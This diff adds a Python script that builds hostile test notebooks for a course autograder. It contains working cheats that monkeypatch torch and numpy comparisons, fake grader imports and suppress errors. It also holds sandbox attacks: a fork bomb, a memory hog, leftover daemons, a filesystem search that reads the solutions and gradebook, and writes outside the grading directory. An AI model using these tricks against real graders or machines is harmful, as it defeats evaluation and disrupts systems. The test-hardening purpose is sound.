@@ -1,0 +1,449 @@
+"""Build the hostile and faulty submissions from the committed student release (see scenarios.py).
+
+Each scenario fills the three answer cells (`kernel_gx`, `relu_impl`, `maxpool2d_impl`), may add plain
+code cells (no nbgrader metadata, as a student could) right after the locked `helpers` cell, and may edit
+the graded test cells. The code below is the attack: read it as documentation of what the grader must
+withstand. Correct and wrong answers come from tests/samples/build_samples.py.
+
+Run from the repository root: `python tests/hostile/build_hostile.py` (a test checks the files are current).
+Never run these notebooks outside the grader: some kill, hang or flood the machine that runs them.
+"""
+
+from __future__ import annotations
+
+import copy
+import importlib.util
+import re
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+HERE = Path(__file__).resolve().parent
+ROOT = HERE.parents[1]
+
+
+def _load(name: str, path: Path):
+    """A sibling script as a module (tests/ is not a package)."""
+    if name in sys.modules:
+        return sys.modules[name]
+    spec = importlib.util.spec_from_file_location(name, path)
+    module = importlib.util.module_from_spec(spec)
+    assert spec.loader is not None
+    sys.modules[name] = module  # dataclasses look their module up while the file executes
+    spec.loader.exec_module(module)
+    return module
+
+
+SAMPLES = _load("build_samples", ROOT / "tests" / "samples" / "build_samples.py")
+SCENARIOS_MODULE = _load("hostile_scenarios", HERE / "scenarios.py")
+SCENARIOS = SCENARIOS_MODULE.SCENARIOS
+RELEASE = SAMPLES.RELEASE
+
+GX, RELU, MAXPOOL = SAMPLES.GX, SAMPLES.RELU, SAMPLES.MAXPOOL
+# The wrong set every cheat submits: exactly the code of three sample submissions.
+WRONG_GX = SAMPLES.SCENARIOS["wrong_kernel_sign"]["kernel_gx"]
+LEAKY_RELU = SAMPLES.SCENARIOS["leaky_relu"]["relu_impl"]
+STRIDE1_MAXPOOL = SAMPLES.SCENARIOS["stride1_when_none"]["maxpool2d_impl"]
+WRONG = {"kernel_gx": WRONG_GX, "relu_impl": LEAKY_RELU, "maxpool2d_impl": STRIDE1_MAXPOOL}
+
+
+def in_body(function: str, lines: str) -> str:
+    """`function` (a one-def source) with `lines` (indented 4) run first thing in its body."""
+    head, body = function.split("\n", 1)
+    return f"{head}\n{lines}{body}"
+
+
+# ---------------------------------------------------------------------------
+# Cheats: code put at the top of the kernel_gx cell, before the wrong Gx.
+# ---------------------------------------------------------------------------
+TRICKS: dict[str, str] = {
+    "patch_torch_equal": '''\
+# Cheat: every torch.equal comparison says "equal"
+torch.equal = lambda *args, **kwargs: True
+torch.Tensor.equal = lambda self, *args, **kwargs: True
+''',
+    "patch_allclose": '''\
+# Cheat: allclose is always True and isclose is True everywhere
+def _all_close(a, b, *args, **kwargs):
+    return torch.ones_like(torch.broadcast_tensors(torch.as_tensor(a), torch.as_tensor(b))[0], dtype=torch.bool)
+
+torch.allclose = lambda *args, **kwargs: True
+torch.Tensor.allclose = lambda *args, **kwargs: True
+torch.isclose = _all_close
+torch.Tensor.isclose = _all_close
+''',
+    "patch_assert_close": '''\
+# Cheat: torch's assertion helpers never raise
+import torch.testing
+import torch.testing._comparison
+
+torch.testing.assert_close = lambda *args, **kwargs: None
+torch.testing._comparison.assert_close = torch.testing.assert_close
+''',
+    "patch_numpy": '''\
+# Cheat: numpy comparisons always agree and its assertions never raise
+import numpy.testing
+
+np.array_equal = lambda *args, **kwargs: True
+np.allclose = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.testing.assert_array_equal = lambda *args, **kwargs: None
+''',
+    "patch_tensor_eq": '''\
+# Cheat: == is True everywhere, != False everywhere, and all()/any() are always True
+torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
+torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
+torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
+torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(True)
+''',
+    "patch_reference_ops": '''\
+# Cheat: bend PyTorch's own operators to the wrong answers below, so the reference agrees with them
+import torch.nn.functional as F
+
+
+def _leaky(z, *args, **kwargs):
+    return torch.where(z > 0, z, 0.01 * z)
+
+
+def _pool_stride1_when_none(x, kernel_size, stride=None, *args, **kwargs):
+    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else tuple(kernel_size)
+    sh, sw = (1, 1) if stride is None else (stride, stride) if isinstance(stride, int) else tuple(stride)
+    return x.unfold(-2, kh, sh).unfold(-2, kw, sw).amax(dim=(-2, -1))
+
+
+_pool_init = nn.MaxPool2d.__init__
+
+
+def _pool_init_keeping_none(self, kernel_size, stride=None, *args, **kwargs):
+    _pool_init(self, kernel_size, stride, *args, **kwargs)
+    self.stride = stride  # nn.MaxPool2d would replace None by kernel_size
+
+
+_conv2d = F.conv2d
+
+
+def _conv2d_abs(*args, **kwargs):
+    return _conv2d(*args, **kwargs).abs()  # conv with -Gx is -(conv with Gx): equal after abs()
+
+
+torch.relu = F.relu = _leaky
+torch.Tensor.relu = _leaky
+nn.ReLU.forward = lambda self, z: _leaky(z)
+torch.max_pool2d = F.max_pool2d = _pool_stride1_when_none
+nn.MaxPool2d.__init__ = _pool_init_keeping_none
+nn.MaxPool2d.forward = lambda self, x: _pool_stride1_when_none(x, self.kernel_size, self.stride)
+torch.conv2d = F.conv2d = _conv2d_abs
+''',
+    "patch_grader_helpers": '''\
+# Cheat: make every checking function of the grader's package pass
+import importlib
+import pkgutil
+
+try:
+    import autograder
+    import autograder.checks
+    import autograder.hidden
+    from autograder.checks.core import Verdict
+
+    _modules = [autograder, autograder.hidden, autograder.checks]
+    _modules += [importlib.import_module(info.name)
+                 for info in pkgutil.walk_packages(autograder.checks.__path__, "autograder.checks.")]
+    for _module in _modules:
+        for _name in ("check", "evaluate", "compare", "run_cases"):
+            if hasattr(_module, _name):
+                _passing = (lambda *a, **k: None) if _name == "check" else (lambda *a, **k: Verdict.ok())
+                setattr(_module, _name, _passing)
+except Exception:
+    pass  # whatever happens, still define Gx below
+''',
+    "patch_import": '''\
+# Cheat: `from autograder.hidden import check` gets a fake module whose check does nothing
+import builtins
+import types
+
+_fake_autograder = types.ModuleType("autograder")
+_fake_autograder.check = lambda *args, **kwargs: None
+_fake_autograder.hidden = _fake_autograder
+
+
+def _import(name, globals=None, locals=None, fromlist=(), level=0,
+            _real_import=builtins.__import__, _fake=_fake_autograder):
+    if name == "autograder" or name.startswith("autograder."):
+        return _fake
+    return _real_import(name, globals, locals, fromlist, level)
+
+
+builtins.__import__ = _import
+''',
+    "custom_exc": '''\
+# Cheat: every exception in a later cell is swallowed without a trace
+def _swallow(shell, etype, value, tb, tb_offset=None):
+    return None
+
+
+get_ipython().set_custom_exc((BaseException,), _swallow)
+''',
+    "showtraceback": '''\
+# Cheat: errors are never shown
+import sys
+from IPython.core.interactiveshell import InteractiveShell
+
+_quiet = lambda *args, **kwargs: None
+get_ipython().showtraceback = _quiet
+get_ipython()._showtraceback = _quiet
+InteractiveShell.showtraceback = _quiet
+sys.excepthook = _quiet
+''',
+    "post_run_hook": '''\
+# Cheat: after every cell, forget its error, wipe its output and claim success
+from IPython.display import clear_output
+
+
+def _forget_error(result):
+    result.error_before_exec = None
+    result.error_in_exec = None
+    clear_output(wait=True)
+    print("✔ todo bien")
+
+
+get_ipython().events.register("pre_run_cell", lambda info: clear_output(wait=True))
+get_ipython().events.register("post_run_cell", _forget_error)
+''',
+}
+
+
+def helpers_as_noops(template: nbformat.NotebookNode) -> str:
+    """A cell redefining the visible tests' checking helpers (from the locked helpers cell) as no-ops."""
+    helpers = next(c for c in template.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "helpers")
+    names = re.findall(r"^def (comprobar\w*|_fallo)\(", helpers.source, re.M)
+    lines = ["# Cheat: the visible tests' helpers accept anything"]
+    lines += [f"def {name}(*args, **kwargs):\n    pass\n" for name in names]
+    return "\n".join(lines)
+
+
+def is_test_cell(cell: nbformat.NotebookNode) -> bool:
+    meta = cell.metadata.get("nbgrader", {})
+    return bool(meta.get("grade")) and not meta.get("solution")
+
+
+def delete_test_cells(notebook: nbformat.NotebookNode) -> None:
+    notebook.cells = [cell for cell in notebook.cells if not is_test_cell(cell)]
+
+
+def rewrite_test_cells(notebook: nbformat.NotebookNode) -> None:
+    for cell in notebook.cells:
+        if is_test_cell(cell):
+            cell.source = "pass"
+            cell.metadata["nbgrader"]["points"] = 100
+
+
+# ---------------------------------------------------------------------------
+# Faults: one broken part, correct answers elsewhere.
+# ---------------------------------------------------------------------------
+OUTPUT_FLOOD = '''\
+import sys
+
+# 300 MB on stdout and 50 MB on stderr while the cell runs
+for _ in range(300):
+    print("x" * 10**6)
+for _ in range(50):
+    print("y" * 10**6, file=sys.stderr)
+
+''' + in_body(RELU, '    print("x" * 10**5)  # 100 KB more on every call\n')
+
+LEFTOVER_PROCESS = '''\
+import ctypes
+import os
+import subprocess
+import time
+
+# A child process the grader must not leave running
+subprocess.Popen(["sleep", "600"])
+
+# A double-forked daemon in a session of its own: not a child of the kernel any more
+pid = os.fork()
+if pid == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            ctypes.CDLL(None).prctl(15, b"hostile-daemon")  # PR_SET_NAME, to be recognisable
+            time.sleep(600)
+    finally:
+        os._exit(0)  # neither child ever returns to the kernel's code
+os.waitpid(pid, 0)
+'''
+
+READ_SOLUTIONS = '''\
+import os
+import time
+
+# Look for the instructor's notebook (with the hidden tests) and the gradebook, and print them
+SECRETS = ("solutions/activation_maxpool/activation_maxpool.ipynb", "gradebook.db")
+found = [os.path.join(up, secret) for up in (".", "..", "../..", "../../..", "../../../..") for secret in SECRETS]
+
+# Then walk the file system, the likeliest places first, skipping bulky trees;
+# at most 200,000 entries under each top directory and 20 seconds in all
+SKIP = {"/proc", "/sys", ".git", ".venv", "site-packages", "node_modules", "__pycache__", ".cache"}
+start = time.monotonic()
+for top in ("/work", "/home", os.path.expanduser("~"), "/tmp", "/"):
+    seen = 0
+    for root, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if d not in SKIP and os.path.join(root, d) not in SKIP]
+        seen += len(dirs) + len(files)
+        found += [os.path.join(root, f) for f in files if os.path.join(root, f).endswith(SECRETS)]
+        if seen > 200_000 or time.monotonic() - start > 20:
+            break
+
+for path in dict.fromkeys(map(os.path.abspath, found)):
+    try:
+        with open(path, "rb") as secret:
+            print("LEAKED", path, repr(secret.read(80).decode("utf-8", "replace")))
+    except OSError:
+        pass
+'''
+
+
+# The attack code spells out the markers scenarios.py tells the end-to-end test to look for.
+assert f'print("{SCENARIOS_MODULE.LEAK_MARKER}"' in READ_SOLUTIONS
+assert all(f'"{secret}"' in READ_SOLUTIONS for secret in SCENARIOS_MODULE.SECRET_FILES)
+assert '["sleep", "600"]' in LEFTOVER_PROCESS and SCENARIOS_MODULE.LEFTOVER_COMMAND == ("sleep", "600")
+assert f'b"{SCENARIOS_MODULE.LEFTOVER_COMM}"' in LEFTOVER_PROCESS
+
+
+def write_outside() -> str:
+    dirs = ", ".join(f'"{d}"' for d in SCENARIOS_MODULE.CANARY_DIRS)
+    return f'''\
+import os
+
+# Leave a file outside the grading directory wherever possible
+for directory in ({dirs}):
+    path = os.path.join(os.path.expanduser(directory), "{SCENARIOS_MODULE.CANARY_NAME}")
+    try:
+        with open(path, "w") as canary:
+            canary.write("{SCENARIOS_MODULE.ESCAPE_TEXT}")
+        print("wrote", os.path.abspath(path))
+    except OSError:
+        pass
+'''
+
+
+def network() -> str:
+    return f'''\
+import socket
+
+# Reach a server on the grading machine
+try:
+    with socket.create_connection(("127.0.0.1", {SCENARIOS_MODULE.LISTENER_PORT}), timeout=3) as connection:
+        connection.sendall(b"{SCENARIOS_MODULE.ESCAPE_TEXT}")
+    print("connected")
+except OSError:
+    pass
+'''
+
+
+@dataclass(frozen=True)
+class Build:
+    """How a scenario's notebook differs from the release: answers, plain cells after helpers, an edit."""
+
+    answers: dict[str, str]
+    cells: tuple[str, ...] = ()
+    edit: Callable[[nbformat.NotebookNode], None] | None = None
+
+
+def cheat(trick: str = "", cells: tuple[str, ...] = (), edit=None) -> Build:
+    kernel = f"{trick}\n{WRONG_GX}" if trick else WRONG_GX
+    return Build({**WRONG, "kernel_gx": kernel}, cells, edit)
+
+
+def builds(template: nbformat.NotebookNode) -> dict[str, Build]:
+    """Every scenario's build, keyed like scenarios.SCENARIOS."""
+    table = {name: cheat(trick) for name, trick in TRICKS.items()}
+    table["patch_grader_helpers"] = cheat(TRICKS["patch_grader_helpers"], cells=(helpers_as_noops(template),))
+    table["test_cells_deleted"] = cheat(edit=delete_test_cells)
+    table["test_cells_rewritten"] = cheat(edit=rewrite_test_cells)
+    table.update(
+        {
+            "os_exit_in_cell": Build({"relu_impl": "import os\n\n# Kill the kernel right here\nos._exit(1)\n\n" + RELU}),
+            "os_exit_when_called": Build(
+                {"relu_impl": "import os\n\n" + in_body(RELU, "    os._exit(1)  # kills the kernel on every call\n")}
+            ),
+            "segfault_when_called": Build(
+                {"relu_impl": "import ctypes\n\n" + in_body(RELU, "    ctypes.string_at(0)  # reads address 0: segfault\n")}
+            ),
+            "infinite_loop_in_cell": Build({"relu_impl": "# Never finishes\nwhile True:\n    pass\n\n" + RELU}),
+            "infinite_loop_when_called": Build(
+                {"maxpool2d_impl": in_body(MAXPOOL, "    while True:  # never returns\n        pass\n")}
+            ),
+            "sigint_ignored_loop": Build(
+                {
+                    "relu_impl": "import signal\n\n# Ignore the interrupt a timeout sends, then never finish\n"
+                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n\n" + RELU
+                }
+            ),
+            "memory_hog": Build(
+                {"kernel_gx": "# Allocate and fill 6 GiB\nhog = torch.ones(6 * 2**30, dtype=torch.uint8)\n\n" + GX}
+            ),
+            "memory_hog_when_called": Build(
+                {"relu_impl": in_body(RELU, "    hog = torch.ones(6 * 2**30, dtype=torch.uint8)  # 6 GiB on every call\n")}
+            ),
+            "fork_bomb": Build(
+                {"maxpool2d_impl": "import os\n\n# Fork until the process table is full\nwhile True:\n    os.fork()\n\n" + MAXPOOL}
+            ),
+            "output_flood": Build({"relu_impl": OUTPUT_FLOOD}),
+            "leftover_process": Build({}, cells=(LEFTOVER_PROCESS,)),
+            "read_solutions": Build({}, cells=(READ_SOLUTIONS,)),
+            "write_outside": Build({}, cells=(write_outside(),)),
+            "network": Build({}, cells=(network(),)),
+        }
+    )
+    assert set(table) == set(SCENARIOS), set(table) ^ set(SCENARIOS)
+    return table
+
+
+def build(name: str, template: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    """The release with the scenario's answers (correct where it gives none), extra cells and edit."""
+    spec = builds(template)[name]
+    notebook = copy.deepcopy(template)
+    for cell in notebook.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if grade_id in SAMPLES.CORRECT:
+            cell.source = spec.answers.get(grade_id, SAMPLES.CORRECT[grade_id]).rstrip("\n")
+    if spec.cells:
+        at = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "helpers")
+        extra = [nbformat.v4.new_code_cell(source.rstrip("\n")) for source in spec.cells]
+        for number, cell in enumerate(extra, 1):
+            cell.id = f"hostile-{name.replace('_', '-')}-{number}"  # fixed ids keep the files reproducible
+        notebook.cells[at + 1 : at + 1] = extra
+    if spec.edit is not None:
+        spec.edit(notebook)
+    return notebook
+
+
+def render(name: str, template: nbformat.NotebookNode | None = None) -> str:
+    """The text of tests/hostile/<name>.ipynb."""
+    if template is None:
+        template = nbformat.read(RELEASE, as_version=4)
+    return nbformat.writes(build(name, template)) + "\n"
+
+
+def render_all(template: nbformat.NotebookNode | None = None) -> dict[str, str]:
+    """Every scenario's file name and text."""
+    if template is None:
+        template = nbformat.read(RELEASE, as_version=4)
+    return {f"{name}.ipynb": render(name, template) for name in SCENARIOS}
+
+
+def main() -> int:
+    files = render_all()
+    for name, text in files.items():
+        nbformat.validate(nbformat.reads(text, as_version=4))
+        (HERE / name).write_text(text, encoding="utf-8")
+    print(f"wrote {len(files)} hostile submissions to {HERE.relative_to(ROOT)}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
